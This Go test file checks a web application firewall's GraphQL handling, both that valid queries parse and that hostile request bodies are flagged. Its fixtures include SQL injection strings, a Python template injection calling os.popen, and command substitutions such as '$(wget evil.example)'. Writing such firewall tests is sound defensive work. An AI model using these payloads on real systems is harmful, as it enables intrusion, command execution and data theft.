package waf

import (
	"encoding/json"
	"slices"
	"strings"
	"testing"
)

func TestGraphQLTexts(t *testing.T) {
	for _, c := range []struct {
		text string
		want []string
		ok   bool
	}{
		{`{me{id}}`, nil, true},
		{`query($id: ID!) { user(id: $id, at: [1.5e-3, -2]) @include(if: true) { ... on User { id } } }`, nil, true},
		{"mutation M {\n  a(b: \"x\\u0027\", c: \"\"\"y \"z\" \"\"\") # note\n { id } }", []string{"x'", "y \"z\" ", "# note"}, true},
		{`fragment F on U { a } query { ...F }`, nil, true},
		{`select * from users`, nil, false},
		{`query { a } ; drop table x`, nil, false},
		{`query { a } or 1=1`, nil, false},
		{`query { a`, nil, false},
		{`query } {`, nil, false},
		{`{"a":"b`, nil, false},
		{`queryish { a }`, nil, false},
		{`query { a(b: "x) }`, nil, false},
		{``, nil, false},
		{`query`, nil, false},
		{`{ a <script> }`, nil, false},
		{`query Q($ids: [[ID!]!]! = [[1, -2.5e+3], []] @d, $in: In = {a: {}, b: [RED, null, true]}) @live { b: a(ids: $ids, in: {a: $in}) @skip(if: false) { ... @x { c } ...F @y ... on T @z { d } } }`, nil, true},
		{`{a 1} union select user,password from users -- {}`, nil, false},
		{`{{self.__init__.__globals__.os.popen(request.args.a).read()}}`, nil, false},
		{`{$(cat etc)}`, nil, false},
		{`{ system(chr(99).chr(97).chr(116)) }`, nil, false},
		{`{ a(b: 1-1) }`, nil, false},
		{`{ a(b: 1.a.b) }`, nil, false},
		{`{ a(b: [1) }`, nil, false},
		{`{ a() }`, nil, false},
		{`{}`, nil, false},
		{strings.Repeat("{a", MaxDepth) + strings.Repeat("}", MaxDepth), nil, true},
		{strings.Repeat("{a", 30000), nil, false},
	} {
		if got, ok := graphQLTexts(c.text); ok != c.ok || ok && !slices.Equal(got, c.want) {
			t.Errorf("%s: %q, %v", c.text, got, ok)
		}
	}
}

// What a GraphQL document carries is judged: its strings, its comments and its variables.
func TestFirewall_GraphQL(t *testing.T) {
	f := firewall(t)
	body := func(query, variable string) string {
		b, err := json.Marshal(map[string]any{"query": query, "variables": map[string]string{"a": variable}})
		if err != nil {
			t.Fatal(err)
		}
		return string(b)
	}
	const harmless = "query Q($id: ID!, $input: Input!) { user(id: $id) { id } add(input: $input) { comment { id } } }"
	for name, c := range map[string]struct {
		body string
		want Result
	}{
		"harmless":   {body(harmless, "x"), Passes},
		"a variable": {body(harmless, attack), Attack},
		"a string":   {body("{ user(name: \""+attack+"\") { id } }", "x"), Attack},
		"a comment":  {body("{ user { id } # "+attack+"\n }", "x"), Attack},
		"no GraphQL": {body(attack, "x"), Attack},
		"in braces":  {body("{a 1} union select user,password from users -- {}", "x"), Attack},
		"a command":  {body("{ $(wget evil.example) }", "x"), Attack},
		"a template": {body("{{self.__init__.__globals__.os.popen(request.args.a).read()}}", "x"), Attack},
	} {
		if v := post(t, f, "application/json", c.body); v.Result != c.want {
			t.Errorf("%s: %+v", name, v)
		}
	}
}
